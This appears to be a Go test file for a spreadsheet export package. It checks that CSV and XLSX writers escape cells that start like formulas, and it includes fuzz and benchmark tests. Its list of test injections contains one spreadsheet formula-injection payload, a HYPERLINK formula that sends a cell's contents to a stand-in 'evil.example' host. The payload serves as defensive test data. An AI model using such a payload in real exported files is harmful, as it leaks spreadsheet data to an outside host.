package sheet

import (
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"
)

// injections are cells a spreadsheet would run as formulas, or that start
// like one.
var injections = []string{`=HYPERLINK("http://evil.example/?x="&A1,"点我")`, "+1", "-1", "@SUM(A1:A9)",
	"\t=1+1", "\r=1+1", "=1+1", "-", "'=already"}

func TestEscapeFormula(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+86 138": "'+86 138", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
		"": "", "北京星辰科技有限公司": "北京星辰科技有限公司", "138****8000": "138****8000", "a=1": "a=1", "'=1": "'=1",
		" =1": " =1",
	} {
		if got := EscapeFormula(in); got != want {
			t.Errorf("EscapeFormula(%q) = %q, want %q", in, got, want)
		}
	}
}

// writeAll writes rows with a new writer and returns the file.
func writeAll(t *testing.T, f Format, encoding string, rows [][]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := NewWriter(&buf, f, encoding)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func readCSV(t testing.TB, b []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(b))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestCSVUTF8EscapesFormulas(t *testing.T) {
	rows := [][]string{{"公司", "电话"}, injections, {"北京星辰科技有限公司", "138****8000"}}
	b := writeAll(t, FormatCSV, "", rows)
	body, ok := bytes.CutPrefix(b, []byte("\uFEFF"))
	if !ok {
		t.Fatalf("no UTF-8 byte order mark: % x", b[:3])
	}
	got := readCSV(t, body)
	want := [][]string{rows[0], make([]string, len(injections)), rows[2]}
	for i, c := range injections {
		want[1][i] = EscapeFormula(c)
		if !strings.HasPrefix(got[1][i], "'") {
			t.Errorf("cell %q written as %q: not escaped", c, got[1][i])
		}
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("read back (-want +got):\n%s", diff)
	}
}

func TestCSVGB18030RoundTrip(t *testing.T) {
	rows := [][]string{{"公司名称", "联系人", "手机"}, {"北京星辰科技有限公司", "张三", "138****8000"}, {"𠀀字", "€", "=1"}}
	b := writeAll(t, FormatCSV, "GB18030", rows)
	if bytes.HasPrefix(b, []byte("\uFEFF")) {
		t.Fatal("GB18030 file starts with a UTF-8 byte order mark")
	}
	utf, err := io.ReadAll(simplifiedchinese.GB18030.NewDecoder().Reader(bytes.NewReader(b)))
	if err != nil {
		t.Fatal(err)
	}
	rows[2][2] = "'=1"
	if diff := cmp.Diff(rows, readCSV(t, utf)); diff != "" {
		t.Errorf("read back (-want +got):\n%s", diff)
	}
}

func TestXLSXWritesStringsNeverFormulas(t *testing.T) {
	rows := [][]string{{"导出人 张三"}, {"公司", "电话"}, injections, {"北京\x01星辰", "138****8000"}}
	b := writeAll(t, FormatXLSX, "", rows)
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	got, err := f.GetRows(xlsxSheet)
	if err != nil {
		t.Fatal(err)
	}
	rows[3][0] = "北京星辰" // the control character XML cannot hold is dropped
	if diff := cmp.Diff(rows, got); diff != "" {
		t.Errorf("read back (-want +got):\n%s", diff)
	}
	for col := range injections {
		cell, _ := excelize.CoordinatesToCellName(col+1, 3)
		if formula, _ := f.GetCellFormula(xlsxSheet, cell); formula != "" {
			t.Errorf("cell %s holds formula %q", cell, formula)
		}
		if typ, _ := f.GetCellType(xlsxSheet, cell); typ != excelize.CellTypeInlineString {
			t.Errorf("cell %s has type %v, want an inline string", cell, typ)
		}
	}
}

func TestNewWriterRefusesUnknown(t *testing.T) {
	for _, c := range []struct {
		f   Format
		enc string
	}{{"pdf", ""}, {FormatCSV, "latin1"}, {FormatXLSX, "gb18030"}} {
		if _, err := NewWriter(io.Discard, c.f, c.enc); err == nil {
			t.Errorf("NewWriter(%q, %q) took it", c.f, c.enc)
		}
	}
}

// FuzzEscapeFormula checks that an escaped cell never starts like a
// formula, that escaping twice changes nothing more, and that the
// original is the escaped cell without its added quote.
func FuzzEscapeFormula(f *testing.F) {
	for _, s := range append(injections, "", "'", "北京", "138****8000") {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		e := EscapeFormula(s)
		if e != "" && strings.ContainsRune("=+-@\t\r", rune(e[0])) {
			t.Fatalf("EscapeFormula(%q) = %q starts like a formula", s, e)
		}
		if EscapeFormula(e) != e {
			t.Fatalf("escaping %q twice changed it", s)
		}
		if e != s && e != "'"+s {
			t.Fatalf("EscapeFormula(%q) = %q: more than a quote added", s, e)
		}
	})
}

// FuzzCSVWrite checks that any cells written to a CSV read back as their
// escaped selves, in both encodings, and that no cell of the file starts
// like a formula.
func FuzzCSVWrite(f *testing.F) {
	f.Add("=1+1", "北京星辰", "\r\n@x")
	f.Add("+86 138", "-", "a,\"b\"")
	f.Fuzz(func(t *testing.T, a, b, c string) {
		cells := []string{a, b, c}
		var want []string
		for _, s := range cells {
			s = strings.ToValidUTF8(s, "\uFFFD")
			// encoding/csv reads \r\n inside a quoted cell as \n.
			want = append(want, strings.ReplaceAll(EscapeFormula(s), "\r\n", "\n"))
		}
		for _, enc := range []string{"", EncodingGB18030} {
			if enc != "" && strings.ContainsFunc(a+b+c, privateUse) {
				continue // GB18030 maps some private-use characters one way only
			}
			var buf bytes.Buffer
			w, err := NewWriter(&buf, FormatCSV, enc)
			if err != nil {
				t.Fatal(err)
			}
			if err := w.Write(cells); err != nil {
				t.Fatal(err)
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			body := bytes.TrimPrefix(buf.Bytes(), []byte("\uFEFF"))
			if enc != "" {
				if body, err = io.ReadAll(simplifiedchinese.GB18030.NewDecoder().Reader(bytes.NewReader(body))); err != nil {
					t.Fatal(err)
				}
			}
			r := csv.NewReader(bytes.NewReader(body))
			r.FieldsPerRecord = -1
			got, err := r.Read()
			if err != nil {
				t.Fatalf("read back %q: %v", body, err)
			}
			for i := range got {
				if i < len(want) && got[i] != want[i] && strings.ReplaceAll(got[i], "\r", "") != strings.ReplaceAll(want[i], "\r", "") {
					t.Fatalf("%s: cell %d read back as %q, want %q", enc, i, got[i], want[i])
				}
			}
		}
	})
}

// privateUse reports whether r is in Unicode's Private Use Area.
func privateUse(r rune) bool { return r >= 0xE000 && r <= 0xF8FF }

// BenchmarkWrite writes 10,000 rows of an export's 17 columns per
// iteration, in each format: the writers' share of an export's time.
func BenchmarkWrite(b *testing.B) {
	row := []string{"北京星辰科技有限公司", "张伟", "138****8000", "z***@xingchen.cn", "wx***", "A", "软件", "北京市/北京市/海淀区",
		"CRM", "展会", "需求确认", "rep.zhang", "华北公海", "2026-11-30 10:42", "2026-11-29 16:00", "2026-12-30 00:00", "0193a5b6c7d8e9f0"}
	for _, c := range []struct {
		name string
		f    Format
		enc  string
	}{{"xlsx", FormatXLSX, ""}, {"csv", FormatCSV, ""}, {"csv-gb18030", FormatCSV, EncodingGB18030}} {
		b.Run(c.name, func(b *testing.B) {
			for b.Loop() {
				w, err := NewWriter(io.Discard, c.f, c.enc)
				if err != nil {
					b.Fatal(err)
				}
				for range 10_000 {
					if err := w.Write(row); err != nil {
						b.Fatal(err)
					}
				}
				if err := w.Close(); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
